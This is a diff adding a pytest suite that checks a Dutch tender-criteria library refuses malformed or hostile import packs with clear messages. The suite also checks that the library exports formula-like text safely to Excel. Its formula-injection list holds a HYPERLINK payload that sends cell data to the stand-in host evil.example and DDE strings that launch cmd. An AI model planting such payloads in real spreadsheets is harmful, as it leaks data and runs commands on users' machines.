@@ -1,0 +1,264 @@
+"""Hostile packs: every malformed pack gets a Dutch message with its place, never "onverwacht", and a pack that
+is accepted can be stored, edited and exported again."""
+
+from __future__ import annotations
+
+import io
+import json
+import zipfile
+from pathlib import Path
+
+import pytest
+
+import main
+from criteria_library.errors import PackError
+from criteria_library.exchange import apply_import, export_pack, plan_import, read_pack
+from tests.helpers import db_fingerprint
+
+
+def write_json(path: Path, data: object) -> Path:
+    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def run_cli(*args: str) -> tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    import contextlib
+
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
+        code = main.main(list(args))
+    return code, out.getvalue(), err.getvalue()
+
+
+def _set(pack: dict, path: str, value: object) -> dict:
+    """Set pack[...] by a dotted path such as 'criteria.0.title'."""
+    target: object = pack
+    *parents, last = path.split(".")
+    for part in parents:
+        target = target[int(part)] if isinstance(target, list) else target[part]  # type: ignore[index]
+    if isinstance(target, list):
+        target[int(last)] = value
+    else:
+        target[last] = value  # type: ignore[index]
+    return pack
+
+
+def _deep(depth: int) -> object:
+    value: object = "x"
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+WRONG_SHAPES = [
+    ("criteria.0.title", ["een", "lijst"], "$.criteria[0].title", "moet tekst zijn"),
+    ("criteria.0.id", {"a": 1}, "$.criteria[0].id", "moet tekst zijn"),
+    ("criteria.0.kind", ["gunningscriterium"], "$.criteria[0].kind", "moet tekst zijn"),
+    ("criteria.0.clause", 12, "$.criteria[0].clause", "moet tekst zijn"),
+    ("criteria.0.level", "1", "$.criteria[0].level", "moet een geheel getal zijn"),
+    ("criteria.0.level", 1.5, "$.criteria[0].level", "moet een geheel getal zijn"),
+    ("criteria.0.version", True, "$.criteria[0].version", "moet een geheel getal zijn"),
+    ("criteria.0.placeholders", ["jaren"], "$.criteria[0].placeholders", "naam-waardeparen"),
+    ("criteria.0.placeholders.jaren", ["5"], "$.criteria[0].placeholders", "moet tekst zijn"),
+    ("criteria.0.placeholders.jaren", {"default": {"b": 1}}, "$.criteria[0].placeholders", "moet tekst zijn"),
+    ("criteria.0.placeholders.jaren", {"default": "5", "label": ["x"]}, "$.criteria[0].placeholders.jaren.label",
+     "moet tekst zijn"),
+    ("criteria.0.placeholders.jaren", {"default": "5", "min": 10**400}, "$.criteria[0].placeholders.jaren.min",
+     "is geen getal"),
+    ("criteria.0.scoring", {"type": "punten", "scale_max": 10**400}, "$.criteria[0].scoring.scale_max",
+     "is geen getal"),
+    ("criteria.0.marktstandaard", "ja", "$.criteria[0].marktstandaard", "moet true of false zijn"),
+    ("criteria.0.status", {"x": 1}, "$.criteria[0].status", "moet tekst zijn"),
+    ("criteria.0.created_at", ["2024"], "$.criteria[0].created_at", "moet tekst zijn"),
+    ("packages.0.name_nl", ["x"], "$.packages[0].name_nl", "moet tekst zijn"),
+    ("packages.0.slug", {"x": 1}, "$.packages[0].slug", "moet tekst zijn"),
+    ("packages.0.prefix", ["MEU"], "$.packages[0].prefix", "moet tekst zijn"),
+    ("packages.0.cpv", "39100000-3", "$.packages[0].cpv", "moet een lijst"),
+    ("packages.0.cpv", [["39100000-3"]], "$.packages[0].cpv", "moet tekst zijn"),
+    ("packages.0.synonyms", [{"a": 1}], "$.packages[0].synonyms", "moet tekst zijn"),
+    ("criteria.0.title", _deep(900), "$.criteria[0].title", "moet tekst zijn"),
+    ("criteria.0.title", "titel \ud800 half", "$.criteria[0].title", "ongeldig Unicode-teken"),
+    ("packages.0.description", "\udfff", "$.packages[0].description", "ongeldig Unicode-teken"),
+    ("criteria.0.placeholders.jaren", "5\ud83d", "$.criteria[0].placeholders", "ongeldig Unicode-teken"),
+    ("criteria.0.version", 10**4000, "$.criteria[0].version", "ongeldige versie"),
+    ("criteria.0.version", 2**63, "$.criteria[0].version", "ongeldige versie"),
+    ("criteria.0.version", 2**63 - 2, "$.criteria[0].version", "ongeldige versie"),
+    ("criteria.0.level", -(10**4200), "$.criteria[0].level", "ongeldig ambitieniveau"),
+    ("criteria.3.weight_max", 2**64, "$.criteria[3].weight_max", "moet een geheel getal van 0 tot 100"),
+    ("criteria.0.placeholders.jaren", "5\x1b[31m", "$.criteria[0].placeholders", "stuurteken (U+001B"),
+    ("criteria.0.placeholders.jaren", "5\x00", "$.criteria[0].placeholders", "stuurteken (U+0000"),
+    ("criteria.0.updated_by", "mallory\x07", "$.criteria[0].updated_by", "stuurteken (U+0007"),
+    ("criteria.0.id", "MEU-S-01\n", "$.criteria[0].id", "moet op één regel staan"),
+]
+
+
+def _raw_json(pack: dict) -> str:
+    # json.dumps refuses lone surrogates only with ensure_ascii=False; ascii escapes them as a real pack would
+    return json.dumps(pack, ensure_ascii=True)
+
+
+def _ids(cases: list[tuple]) -> list[str]:
+    return [f"{c[0]}={type(c[1]).__name__}-{n}" for n, c in enumerate(cases)]
+
+
+CLI_CASES = WRONG_SHAPES[:4] + [case for case in WRONG_SHAPES if case[3] in (
+    "ongeldig Unicode-teken", "ongeldige versie", "stuurteken (U+001B", "is geen getal")]
+
+
+@pytest.mark.parametrize(("field", "value", "place", "message"), WRONG_SHAPES, ids=_ids(WRONG_SHAPES))
+def test_wrong_shape_gets_a_dutch_message_with_its_place(mini_pack, tmp_path, field, value, place, message) -> None:
+    import sys
+
+    sys.set_int_max_str_digits(0)  # to write the huge integers; the reader must not depend on it
+    try:
+        text = _raw_json(_set(mini_pack, field, value))
+    finally:
+        sys.set_int_max_str_digits(4300)
+    path = tmp_path / "bad.json"
+    path.write_text(text, encoding="utf-8")
+    with pytest.raises(PackError) as err:
+        read_pack(path)
+    report = err.value.report()
+    assert any(line.startswith(f"bad.json {place}") and message in line for line in report.splitlines()), report
+    assert len(report) < 5000  # a huge value is not echoed back in full
+
+
+def test_nesting_a_thousand_deep_is_refused_clearly(tmp_path) -> None:
+    path = tmp_path / "deep.json"
+    path.write_text('{"format": "tender-assistant.library", "version": 1, "packages": '
+                    + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
+    with pytest.raises(PackError, match="te diep genest"):
+        read_pack(path)
+
+
+def test_integer_of_thousands_of_digits_in_json_text(mini_pack, tmp_path) -> None:
+    text = _raw_json(mini_pack).replace('"level": 1', '"level": ' + "9" * 6000, 1)
+    path = tmp_path / "huge_int.json"
+    path.write_text(text, encoding="utf-8")
+    with pytest.raises(PackError) as err:
+        read_pack(path)
+    assert "getal met te veel cijfers" in err.value.report()
+
+
+def test_non_finite_numbers_are_refused(mini_pack, tmp_path) -> None:
+    text = _raw_json(mini_pack).replace('"level": 1', '"level": NaN', 1)
+    path = tmp_path / "nan.json"
+    path.write_text(text, encoding="utf-8")
+    with pytest.raises(PackError, match="NaN"):
+        read_pack(path)
+
+
+@pytest.mark.parametrize(("field", "value", "place", "message"), CLI_CASES, ids=_ids(CLI_CASES))
+def test_cli_import_and_dry_run_refuse_alike_and_never_say_onverwacht(
+        tmp_path, mini_pack, mini_pack_path, field, value, place, message) -> None:
+    db = tmp_path / "lib.db"
+    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
+    before = db_fingerprint(db)
+    files_before = sorted(tmp_path.rglob("*"))
+    path = tmp_path / "bad.json"
+    path.write_text(_raw_json(_set(mini_pack, field, value)), encoding="utf-8")
+    for extra in (["--dry-run"], []):
+        code, _out, err = run_cli("--db", str(db), "library", "import", str(path), *extra)
+        assert code == 2, err
+        assert "onverwacht" not in err and "fout:" in err and place in err
+    assert db_fingerprint(db) == before
+    assert sorted(tmp_path.rglob("*")) == sorted([*files_before, path])  # no backup, nothing else
+
+
+def test_a_refused_import_leaves_no_backup(fresh_db, mini_pack, tmp_path, monkeypatch) -> None:
+    mini_pack["criteria"][0]["title"] = "Nieuwe titel"
+    plan = plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack)))
+    made: list[Path] = []
+    real_backup = fresh_db.backup
+
+    def backup(*args, **kwargs):
+        made.append(real_backup(*args, **kwargs))
+        return made[-1]
+
+    def fail(*args, **kwargs):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(fresh_db, "backup", backup)
+    monkeypatch.setattr(fresh_db, "_write_criterion", fail)
+    with pytest.raises(OSError):
+        apply_import(fresh_db, plan)
+    assert made and not made[0].exists()
+
+
+def test_accepted_pack_stays_editable_and_exportable(fresh_db, mini_pack, tmp_path) -> None:
+    mini_pack["criteria"][0]["version"] = 999_999
+    mini_pack["criteria"][0]["status"] = "concept"  # edited in place; a published one gets a pending version
+    mini_pack["criteria"][0]["placeholders"]["jaren"] = "5 of 6\tjaar"
+    apply_import(fresh_db, plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
+    c = fresh_db.criterion(mini_pack["criteria"][0]["id"])
+    fresh_db.save_criterion(c.__class__(**{**c.__dict__, "title": "Bewerkt"}))
+    assert fresh_db.criterion(c.id).version == 1_000_000
+    export_pack(fresh_db, tmp_path / "out.xlsx")
+    export_pack(fresh_db, tmp_path / "out.json")
+    assert read_pack(tmp_path / "out.xlsx").criteria[0].placeholders == {"jaren": "5 of 6\tjaar"}
+
+
+# ------------------------------------------------------------------ corrupt XLSX parts
+SHARED_STRINGS_TYPE = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
+                       b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
+
+
+def _rewrite_member(src: Path, dst: Path, member: str, data: bytes) -> None:
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            content = data if info.filename == member else zin.read(info.filename)
+            if member == "xl/sharedStrings.xml" and info.filename == "[Content_Types].xml":
+                content = content.replace(b"</Types>", SHARED_STRINGS_TYPE)  # openpyxl itself writes none
+            zout.writestr(info.filename, content)
+        if member not in zin.namelist():
+            zout.writestr(member, data)
+
+
+@pytest.mark.parametrize(("member", "data"), [
+    ("xl/sharedStrings.xml", b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><si><t>kapot"),
+    ("xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row r='1'><c r='A1' t='s'><v>99999</v></c></row>"),
+    ("xl/worksheets/sheet2.xml", b"\x00\x01 geen xml"),
+    ("xl/workbook.xml", b"<workbook/>"),
+    ("xl/styles.xml", b"<styleSheet><cellXfs><xf numFmtId='abc'/></cellXfs>"),
+    ("[Content_Types].xml", b"<Types><Default"),
+])
+def test_corrupt_xml_part_inside_xlsx_is_refused_clearly(fresh_db, tmp_path, member, data) -> None:
+    good = tmp_path / "good.xlsx"
+    export_pack(fresh_db, good)
+    bad = tmp_path / "bad.xlsx"
+    _rewrite_member(good, bad, member, data)
+    with pytest.raises(PackError) as err:
+        read_pack(bad)
+    assert "bad.xlsx" in err.value.report()
+    assert any(word in err.value.report() for word in ("beschadigd", "geen leesbaar Excel-werkboek", "ontbreken"))
+
+
+
+# ------------------------------------------------------------------ formula injection (item 7)
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik hier")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(fresh_db, mini_pack, tmp_path) -> None:
+    from openpyxl import load_workbook
+
+    for n, formula in enumerate(FORMULAS):
+        mini_pack["criteria"][n]["title"] = formula
+        mini_pack["criteria"][n]["rationale"] = formula + " toelichting"
+    mini_pack["packages"][0]["name_nl"] = "=1+1"
+    mini_pack["criteria"][0]["placeholders"]["jaren"] = "=A1"
+    apply_import(fresh_db, plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
+    out = tmp_path / "lib.xlsx"
+    export_pack(fresh_db, out)
+    sheet = load_workbook(out)["criteria"]
+    column = [c.value for c in sheet[1]].index("title")
+    titles = {row[column].value: row[column] for row in sheet.iter_rows(min_row=2)}
+    for formula in FORMULAS:
+        expected = formula.replace("\r", "\n")  # a pack's line ends are new lines
+        cell = titles[expected]
+        assert cell.data_type == "s" and cell.value == expected  # text, not a formula, and not changed
+        assert cell.quotePrefix  # Excel keeps it text when the user edits the cell
+    assert load_workbook(out)["pakketten"]["B2"].data_type == "s"
+    again = read_pack(out)
+    assert not plan_import(fresh_db, again).has_changes  # the export imports back identically
+    assert {c.title for c in again.criteria} >= {f.replace("\r", "\n") for f in FORMULAS}
